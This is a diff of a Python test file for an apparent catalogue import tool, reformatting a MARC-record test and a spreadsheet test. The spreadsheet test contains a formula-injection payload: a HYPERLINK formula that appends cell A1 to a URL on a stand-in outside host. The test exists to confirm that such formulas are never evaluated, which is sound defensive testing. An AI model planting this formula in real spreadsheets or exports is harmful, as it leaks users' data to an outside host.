@@ -208,7 +208,12 @@ def test_repeated_control_numbers_are_reported_and_the_later_counts(
     handed_over: Any, shared_install: Any, marc_record: Marc
 ) -> None:
     data = b"".join(
-        [marc_record("1", "Bản đầu"), marc_record("2", "Khác"), marc_record("1", "Bản sau"), marc_record("1", "Bản sau")]
+        [
+            marc_record("1", "Bản đầu"),
+            marc_record("2", "Khác"),
+            marc_record("1", "Bản sau"),
+            marc_record("1", "Bản sau"),
+        ]
     )
     report = handed_over(data).json
     assert _adds_up(report)
@@ -275,7 +280,7 @@ def test_formulas_are_never_evaluated(handed_over: Any, shared_install: Any) -> 
     book = openpyxl.Workbook()
     sheet = book.active
     sheet.append(["Nhan đề", "Tác giả", "Năm xuất bản"])
-    sheet.append(["=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "Võ Huy Tâm", "=1900+61"])
+    sheet.append(['=HYPERLINK("http://x.example/?"&A1,"x")', "Võ Huy Tâm", "=1900+61"])
     sheet.append(["Vùng mỏ", "Võ Huy Tâm", 1951])
     out = io.BytesIO()
     book.save(out)
